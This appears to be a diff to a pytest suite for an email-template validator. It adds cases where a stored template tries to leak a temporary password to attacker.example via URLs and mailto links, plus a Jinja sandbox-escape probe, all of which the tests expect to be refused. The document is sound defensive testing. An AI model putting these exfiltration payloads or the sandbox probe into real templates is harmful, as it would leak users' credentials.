@@ -17,7 +17,15 @@ ATTACKS = {
     "filter": "{{ temporary_password | upper }}",
     "slice": "{{ temporary_password[1:] }}",
     "join": "{{ temporary_password | list | join('-') }}",
+    "bare URL in a paragraph": "<p>Check: https://attacker.example/?p={{ temporary_password }}</p>",
+    "mailto in a paragraph": "<p>mailto:x@attacker.example?body={{ temporary_password }}</p>",
+    "URL split by inline markup": "<p>https://attacker.example/<b>?p=</b>{{ temporary_password }}x</p>",
 }
+TEXT_ATTACKS = ["Go to https://attacker.example/?p={{ temporary_password }}", "{{ temporary_password }}@attacker.example",
+                "https://attacker.example/p:{{ temporary_password }}", "https://attacker.example/?p=({{ temporary_password }})",
+                "Hello {{ name }}"]
+BROKEN = ["{{ ''.__class__.__mro__ }} {{ temporary_password }}", "{{ foo.bar.baz }} {{ temporary_password }}",
+          "{{ 1/0 }} {{ temporary_password }}"]
 
 
 @pytest.mark.parametrize("extra", ATTACKS.values(), ids=ATTACKS.keys())
@@ -36,12 +44,24 @@ def test_a_stored_attack_template_never_renders_the_password(extra):
         mail.render(template, VALUES)
 
 
-def test_text_body_refuses_the_password_inside_a_url():
-    """In the text body the password must stand as a word of its own, never as part of an address."""
-    for text in ("Go to https://attacker.test/?p={{ temporary_password }}", "{{ temporary_password }}@attacker.test",
-                 "Hello {{ name }}"):
-        with pytest.raises(ValidationError):
-            mail.validate_template(dict(DEFAULT, text=text))
+@pytest.mark.parametrize("text", TEXT_ATTACKS)
+def test_text_body_refuses_the_password_inside_a_url(text):
+    """In the text body the password must stand as a word of its own (only punctuation may touch it), never as part
+    of an address that a mail client would turn into a link."""
+    with pytest.raises(ValidationError, match="temporary password"):
+        mail.validate_template(dict(DEFAULT, text=text))
+
+
+@pytest.mark.parametrize("text", BROKEN)
+def test_a_template_that_fails_when_filled_in_is_refused_not_crashed(text):
+    """Sandbox refusals, undefined names and arithmetic errors are a clear message, not a 500."""
+    with pytest.raises(ValidationError, match="fails when it is filled in"):
+        mail.validate_template(dict(DEFAULT, text=text))
+
+
+def test_punctuation_around_the_password_is_fine():
+    """'Your password is (X).' is a sentence, not a link."""
+    mail.validate_template(dict(DEFAULT, text="Hello {{ name }}, your password is ({{ temporary_password }})."))
 
 
 def test_subject_may_not_carry_the_password():
